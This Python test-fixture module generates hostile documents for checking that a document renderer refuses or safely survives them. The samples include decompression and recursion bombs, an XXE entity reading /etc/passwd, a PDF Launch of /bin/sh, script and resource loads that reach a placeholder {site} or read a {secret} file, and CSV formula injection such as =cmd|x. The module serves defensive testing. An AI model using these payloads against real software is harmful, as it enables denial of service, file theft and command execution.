"""Documents made to hurt: bombs, loops, traps and leaks, each as octets with a name.

``REFUSED`` must end in an error that matches; ``ENDURED`` may be rendered or refused, but neither
fetches, reads, hangs nor ends anything but itself. ``{site}`` and ``{secret}`` are filled in.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import numpy as np
import pypdfium2 as pdfium
from PIL import Image

Made = Callable[[], bytes]


def pdf(*objects: str | bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of references."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        body = each.encode("latin-1") if isinstance(each, str) else each
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, extra: str = "") -> bytes:
    """A stream object."""
    return f"<< /Length {len(data)} {extra} >>\nstream\n".encode() + data + b"\nendstream"


def one_page(content: str = "", page: str = "", catalog: str = "", *more: str | bytes) -> bytes:
    """A PDF of one page with words on it, and whatever else."""
    words = f"BT /F1 24 Tf 72 700 Td (words) Tj ET {content}".encode()
    return pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> {page} >>",
        stream(words),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(more or ("<< >>",)),
    )


def form(said: str, inner: int) -> bytes:
    """A form that may draw the object with this number as ``/X``."""
    head = "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
    return stream(said.encode(), f"{head} /Resources << /XObject << /X {inner} 0 R >> >>")


def many_pages(count: int) -> bytes:
    document = pdfium.PdfDocument.new()
    for _ in range(count):
        document.new_page(595, 842)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def image(form: str, size: tuple[int, int] = (8, 8), **options: object) -> bytes:
    target = io.BytesIO()
    Image.new("L", size, 128).save(target, form, **options)
    return target.getvalue()


def png(width: int, height: int, rows: int, *chunks: bytes) -> bytes:
    """A PNG that says how large it is, and has fewer rows, and odd chunks."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    packed = zlib.compress(bytes((width // 8 + 1) * rows), 9)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(chunks)
        + chunk(b"IDAT", packed)
        + chunk(b"IEND", b"")
    )


def tiff(entries: list[tuple[int, int, int, int]], following: int = 0, tail: bytes = b"") -> bytes:
    """A little-endian TIFF of one directory at 8; ``following`` is where the next one is."""
    out = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries))
    out += b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return out + struct.pack("<I", following) + tail


def fax_tiff(width: int, height: int, following: int = 0, data: bytes = b"\0" * 16) -> bytes:
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 1), (259, 3, 1, 4)]
    entries += [(262, 3, 1, 0), (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1)]
    entries += [(278, 4, 1, height), (279, 4, 1, len(data))]
    return tiff(entries, following, data)


def svg_laughs() -> bytes:
    groups = '<g id="g0"><rect width="9" height="9"/></g>' + "".join(
        f'<g id="g{n + 1}">' + f'<use href="#g{n}"/>' * 20 + "</g>" for n in range(9)
    )
    return (
        f'<!DOCTYPE html><p>words<svg width=90 height=90>{groups}<use href="#g9"/></svg>'.encode()
    )


def html(body: str) -> Made:
    return f"<!DOCTYPE html><p>words {body}".encode


def noise(size: int) -> bytes:
    return np.random.default_rng(1).integers(0, 256, size, np.uint8).tobytes()


REFUSED: dict[str, tuple[Made, str]] = {
    "empty-tree.pdf": (lambda: pdf("<< /Type /Catalog >>"), "empty-tree.pdf is a"),
    "cut.pdf": (lambda: one_page()[:400], "cut.pdf is broken"),
    "noise.pdf": (lambda: b"%PDF-1.7\n" + noise(5000) + b"%%EOF", "noise.pdf is a broken PDF"),
    "ten-thousand.pdf": (lambda: many_pages(10_000), "at most 300 can be sent"),
    "tree-loop.pdf": (
        lambda: pdf(
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
        ),
        "tree-loop.pdf",
    ),
    "locked.pdf": (
        lambda: one_page().replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /P 0 /O ("
            + b"x" * 32
            + b") /U ("
            + b"y" * 32
            + b") >> /ID [<00><00>]",
        ),
        "locked.pdf is encrypted",
    ),
    "hundred-megapixels.png": (lambda: png(20_000, 20_000, 9), "more pixels than the 150 million"),
    "side-of-a-million.png": (lambda: png(1_000_000, 1000, 1), "more pixels than the 150 million"),
    "cut.png": (lambda: png(800, 800, 3)[:-30], "cut.png is a broken PNG file"),
    "not-a-png.png": (lambda: b"\x89PNG\r\n\x1a\n" + noise(2000), "not-a-png.png is a broken PNG"),
    "cut.jpg": (lambda: image("JPEG", (900, 900))[:700], "cut.jpg is a broken JPEG"),
    "postscript.png": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(words) show", "of no type that can be"),
    "program.txt": (lambda: b"\x7fELF" + noise(4000), "program.txt"),
    "zeros.txt": (lambda: bytes(5000), "zeros.txt"),
    "controls.txt": (lambda: b"words\x07\x1b[2J", "control character"),
    "latin1.txt": (lambda: b"gr\xfc\xdfe", "not UTF-8 text"),
    "form-feeds.txt": (
        lambda: b"x\f" * 3000,
        "the message has 3000 pages; at most 300 can be sent",
    ),
    "cut.gif": (lambda: image("GIF", (500, 500))[:60], "cut.gif is a broken GIF"),
    "cut.webp": (lambda: image("WEBP", (500, 500))[:60], "cut.webp is a broken WEBP"),
    "high.bmp": (
        lambda: image("BMP")[:18] + struct.pack("<ii", 60_000, 60_000) + image("BMP")[26:],
        "more pixels|broken BMP",
    ),
    "ten-thousand-to-one.tif": (lambda: fax_tiff(60_000, 4_000_000), "ten-thousand-to-one.tif"),
    "loop.tif": (lambda: fax_tiff(1728, 100, following=8), "loop.tif"),
    "lying-count.tif": (lambda: tiff([(256, 4, 1 << 30, 8)] * 9), "lying-count.tif"),
    "no-directory.tif": (lambda: b"II*\0\xff\xff\xff\x7f", "no-directory.tif"),
    "deep.html": (lambda: b"<!DOCTYPE html>" + b"<div>" * 3000 + b"words", "nested too deeply"),
    "entities.rml": (
        lambda: (
            b'<!DOCTYPE document [<!ENTITY a SYSTEM "file:///etc/passwd">]><document>&a;</document>'
        ),
        "entities.rml",
    ),
    "code.rml": (
        lambda: b"<document><story><evalString>1</evalString></story></document>",
        "code.rml, line 1: <evalString> is not part",
    ),
    "columns.csv": (
        lambda: (",".join("x" * 400) + "\n").encode() * 20,
        "columns.csv has 400 columns; at most 64 fit on a page",
    ),
    "lines.txt": (lambda: b"x\n" * 5_000_000, "lines.txt has more lines than 300 pages hold"),
    "office.docx": (lambda: b"PK\x03\x04" + b"[Content_Types].xml" + noise(500), "office.docx"),
    "form-in-itself.pdf": (
        lambda: one_page("/X Do", "", "", form("/X Do /X Do", 6)),
        "form-in-itself.pdf page 1 draws more than 100000 things inside others, or one inside",
    ),
    "form-laughs.pdf": (
        lambda: one_page(
            "/X Do", "", "", *(form("/X Do " * 20, 7 + n) for n in range(9)), form("f", 1)
        ),
        "form-laughs.pdf page 1 draws more than 100000 things",
    ),
    "svg-laughs.html": (svg_laughs, "svg-laughs.html: a drawing comes to more than 50000 parts"),
    "pattern-in-itself.html": (
        html(
            "<svg><pattern id=a><rect width=9 height=9 fill='url(#a)'></rect></pattern>"
            "<rect width=9 height=9 fill='url(#a)'></rect></svg>"
        ),
        "pattern-in-itself.html: a drawing comes to more than",
    ),
    "pages.html": (
        html("<p style='break-after:page'>x" * 400),
        "at most 300 can be sent",
    ),
}

ENDURED: dict[str, Made] = {
    "no-area.pdf": lambda: one_page().replace(b"[0 0 595 842]", b"[0 0 0000 000]"),
    "javascript.pdf": lambda: one_page(
        catalog="/OpenAction << /S /JavaScript /JS (app.launchURL\\('{site}/js'\\)) >>"
    ),
    "launch.pdf": lambda: one_page(
        catalog="/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd) >> >>"
    ),
    "uri.pdf": lambda: one_page(catalog="/OpenAction << /S /URI /URI ({site}/uri) >>"),
    "submit.pdf": lambda: one_page(
        page="/AA << /O << /S /SubmitForm /F << /FS /URL /F ({site}/form) >> >> >>"
    ),
    "go-to-remote.pdf": lambda: one_page(
        catalog="/OpenAction << /S /GoToR /F ({secret}) /D [0 /Fit] >>"
    ),
    "stream-in-a-file.pdf": lambda: one_page(
        "/X Do",
        "",
        "",
        stream(b"", "/Type /XObject /Subtype /Form /BBox [0 0 99 99] /F ({secret}) /FFilter []"),
    ),
    "stream-at-an-address.pdf": lambda: one_page(
        "/X Do",
        "",
        "",
        stream(
            b"", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F ({site}/s) >>"
        ),
    ),
    "reference-to-a-file.pdf": lambda: one_page(
        "/X Do",
        "",
        "",
        stream(
            b"", "/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Ref << /F ({secret}) /Page 0 >>"
        ),
    ),
    "deep-array.pdf": lambda: one_page(catalog=f"/Deep {'[' * 5000}{']' * 5000}"),
    "flate-bomb.pdf": lambda: one_page(
        "/X Do",
        "",
        "",
        stream(
            zlib.compress(zlib.compress(bytes(300 << 20), 9), 9),
            "/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 "
            "/ColorSpace /DeviceGray /Filter [/FlateDecode /FlateDecode]",
        ),
    ),
    "huge-image.pdf": lambda: one_page(
        "/X Do",
        "",
        "",
        stream(
            b"x",
            "/Type /XObject /Subtype /Image /Width 2000000 /Height 2000000 "
            "/BitsPerComponent 8 /ColorSpace /DeviceRGB",
        ),
    ),
    "states.pdf": lambda: one_page("q " * 200_000),
    "references.pdf": lambda: one_page().replace(b"/Length ", b"/Length 4 0 R %"),
    "text-in-a-chunk.png": lambda: png(
        80,
        80,
        80,
        struct.pack(">I", 0) + b"tEXt" + struct.pack(">I", zlib.crc32(b"tEXt")),
    ),
    "thousand-frames.gif": lambda: image(
        "GIF", save_all=True, append_images=[Image.new("L", (8, 8), n % 256) for n in range(999)]
    ),
    "wide.html": html("<div style='width:99999999px;height:99999px;border:1px solid'>x</div>"),
    "giant-letters.html": html("<span style='font-size:9999999pt'>x</span>"),
    "columns.html": html("<div style='columns:90'>" + "x " * 2000 + "</div>"),
    "counters.html": html(
        "<style>p{counter-increment:a 2147483647}p::before{content:counter(a)}"
        "</style>" + "<p>x" * 200
    ),
    "long-address.html": html(f"<img src='data:image/png;base64,{'A' * 3_000_000}'>"),
    "import-loop.html": html("<style>@import 'data:text/css,@import \"data:text/css,\"';</style>"),
    "svg-in-svg.html": html(
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
        '<image href="{site}/svg.png"/><image href="file://{secret}"/></svg>\'>'
    ),
    "everything-outside.html": html(
        "<link rel=stylesheet href='{site}/a.css'><img src='{secret}'>"
        "<iframe src='{site}'></iframe><object data='{secret}'></object>"
        "<style>@font-face{{font-family:a;src:url({site}/f)}}"
        "body{{background:url(file://{secret})}}</style>"
    ),
    "scripts.html": html(
        "<script>fetch('{site}/js')</script><body onload=\"location='{site}/go'\">"
    ),
    "tall-table.html": html("<table>" + "<tr><td>x<td>y" * 400 + "</table>"),
    "one-line.txt": lambda: b"x" * 60_000,
    "marks.txt": ("\u202e\u0301" * 2000 + "words").encode,
    "cells.csv": lambda: (",".join("x" * 60) + "\n").encode() * 20,
    "formulas.csv": lambda: b'=HYPERLINK("{site}/x"),@SUM(1)\n=cmd|x,2\n',
}
